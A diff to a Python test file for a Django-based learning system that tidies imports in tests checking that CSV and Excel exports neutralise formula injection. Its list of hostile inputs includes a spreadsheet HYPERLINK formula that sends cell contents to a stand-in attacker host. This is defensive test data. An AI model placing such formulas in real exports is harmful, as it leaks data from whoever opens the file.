@@ -8,6 +8,7 @@ hand-written export. Each is fetched as a superuser in both formats and parsed w
 import csv
 import io
 import re
+from collections import Counter
 from datetime import timedelta
 
 import openpyxl
@@ -18,7 +19,20 @@ from django.utils import timezone
 from wagtail.admin.views.mixins import SpreadsheetExportMixin
 
 from lms.audit import audit_record
+from lms.exports import csv_safe
+from tests.certificates.factories import CertificateFactory
+from tests.courses.factories import build_course, enrol
 from tests.lms.factories import InstitutionFactory, UserFactory
+from tests.recruitment.factories import ApplicationFactory, CohortFactory, InterviewSlotFactory
+from tests.supervision.factories import (
+    AdvisorAssignmentFactory,
+    AdvisorFactory,
+    EngagementPeriodFactory,
+    SessionFactory,
+    SupervisionGroupFactory,
+    SupporterFactory,
+)
+from tests.survey.factories import AnswerFactory, SurveyPageFactory
 
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
@@ -63,18 +77,6 @@ def export_routes():
 @pytest.fixture
 def hostile_world(db, settings, tmp_path):
     """One row with a hostile text in every export we can reach: names, titles, topics, places, answers."""
-    from tests.certificates.factories import CertificateFactory
-    from tests.courses.factories import build_course, enrol
-    from tests.recruitment.factories import ApplicationFactory, CohortFactory, InterviewSlotFactory
-    from tests.supervision.factories import (
-        AdvisorAssignmentFactory,
-        AdvisorFactory,
-        EngagementPeriodFactory,
-        SessionFactory,
-        SupervisionGroupFactory,
-        SupporterFactory,
-    )
-    from tests.survey.factories import AnswerFactory, SurveyPageFactory
 
     settings.CERTIFICATES_KEY_DIR = str(tmp_path / "keys")
     settings.CERTIFICATES_AUTO_GENERATE_KEY = True
@@ -148,7 +150,6 @@ def test_the_discovery_finds_the_exports_we_know():
 
 
 def test_no_export_has_a_cell_a_spreadsheet_would_evaluate(hostile_world):
-    from collections import Counter
 
     client = hostile_world["client"]
     neutralised = Counter()
@@ -194,6 +195,5 @@ def test_no_export_has_a_cell_a_spreadsheet_would_evaluate(hostile_world):
 
 @pytest.mark.parametrize("value", HOSTILE)
 def test_the_guard_also_covers_headings(value):
-    from lms.exports import csv_safe
 
     assert not evaluated(csv_safe(value))
